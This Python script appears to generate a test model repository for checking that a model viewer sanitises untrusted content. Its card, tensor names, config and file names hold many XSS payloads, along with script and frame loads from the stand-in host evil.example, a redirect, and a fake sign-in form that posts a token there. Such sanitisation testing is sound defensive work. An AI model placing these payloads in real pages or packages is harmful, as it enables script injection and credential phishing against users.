#!/usr/bin/env python3
"""Writes a small model whose card and names try to be more than text on a page.

    hostile_model.py TARGET VERSION     VERSION: 0 is the base, others are fine-tunes that differ
"""
import json
import random
import struct
import sys
import zlib
from pathlib import Path

# Each would set `hacked`, open a dialog, or ask some other server for something.
CARD = """---
license: "<script>hacked = 1</script>"
tags: ["<img src=x onerror='hacked = 1'>", "'\\"><svg onload='hacked = 1'>"]
---
# <script>hacked = 1</script>Hostile <img src=x onerror="hacked = 1">

<script>hacked = 1; alert(1)</script>
<script src="https://evil.example/a.js"></script>
<style>body { display: none } @import "https://evil.example/a.css";</style>
<link rel="stylesheet" href="https://evil.example/b.css">
<meta http-equiv="refresh" content="0; url=https://evil.example/">
<base href="https://evil.example/">
<iframe src="https://evil.example/"></iframe><object data="https://evil.example/"></object><embed src="https://evil.example/">
<form action="https://evil.example/"><input name="token"><button>Sign in</button></form>
<svg onload="hacked = 1"><script>hacked = 1</script><image href="https://evil.example/c.png"/></svg>
<details open ontoggle="hacked = 1"><summary>x</summary></details>
<body onload="hacked = 1"><video src="https://evil.example/v" autoplay onerror="hacked = 1"></video>

Inline <b onmouseover="hacked = 1">bold</b>, <a href="javascript:hacked=1">link</a>, <img src="https://evil.example/d.png">.

[one](javascript:hacked=1) [two](JaVaScRiPt:hacked=1) [three](java&#10;script:hacked=1) [four](&#x6A;avascript:hacked=1)
[five](data:text/html,<script>hacked=1</script>) [six](vbscript:x) [seven](<  javascript:hacked=1>) [eight](//evil.example/)
[nine](https://example.org/ "a title\\" onclick=hacked=1 x=\\"") [ten](missing.txt)
[eleven](/console/sign-out) [twelve](../../../../console/garbage)
<javascript:hacked=1> [thirteen]: javascript:hacked=1

![outside](https://evil.example/e.png) ![data](data:image/png;base64,AAAA) ![script](javascript:hacked=1)
![drawing](drawing.svg) ![dot](dot.png) ![up](../../dot.png) ![x" onerror="hacked=1](nothing.png)

```html
<script>hacked = 1</script>
```

`<img src=x onerror=hacked=1>` and &lt;script&gt;hacked = 1&lt;/script&gt;

A word\u202ethat turns\u202c and a line that is too long: """ + "x" * 600 + "\n\n"
SVG = '<svg xmlns="http://www.w3.org/2000/svg" onload="hacked=1"><script>hacked = 1</script></svg>'
NAMES = ["embeddings.<script>hacked=1</script>.weight", 'head"><img src=x onerror=hacked=1>.weight',
         *(f"layer.{layer}.{name}" for layer in range(2) for name in ("<b onclick='hacked=1'>q</b>.weight", "a&b.weight", "norm.bias"))]
SHAPE = (64, 32)


def table(columns, rows):
    """Wider and longer than any screen."""
    head = "|" + "".join(f" column {number} |" for number in range(columns)) + "\n|" + "---|" * columns + "\n"
    return head + ("|" + "".join(f" <i onclick='hacked = 1'>{number}</i> |" for number in range(columns)) + "\n") * rows


def png():
    """One dark pixel."""
    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(b"\0\x20")) + chunk(b"IEND", b""))


def weights(version):
    """The same for each version but for small changes; the last tensor does not change."""
    header, body = {}, b""
    for number, name in enumerate(NAMES):
        values = [random.Random(f"{number}.{index}").gauss(0, 0.02) for index in range(SHAPE[0] * SHAPE[1])]
        if version > 0 and number + 1 < len(NAMES):
            turn = random.Random(f"{version}.{number}")
            values = [value + turn.gauss(0, 1e-4 * version) for value in values]
        data = struct.pack(f"<{len(values)}f", *values)
        header[name] = {"dtype": "F32", "shape": SHAPE, "data_offsets": [len(body), len(body) + len(data)]}
        body += data
    text = json.dumps(header).encode()
    return struct.pack("<Q", len(text)) + text + body


def main(target, version):
    folder = Path(target)
    folder.mkdir()
    (folder / "README.md").write_text(CARD + (f"Version {version} has <script>hacked = {version}</script> too.\n\n" if version > 1 else "")
                                      + table(40, 6))
    (folder / "config.json").write_text(json.dumps({"architectures": ["<script>hacked=1</script>"], "version": version}, indent=1))
    (folder / "drawing.svg").write_text(SVG)
    (folder / "dot.png").write_bytes(png())
    (folder / "\"><img src=x onerror=hacked=1>.txt").write_text(SVG)
    (folder / "model.safetensors").write_bytes(weights(version))


if __name__ == "__main__":
    main(sys.argv[1], int(sys.argv[2]))
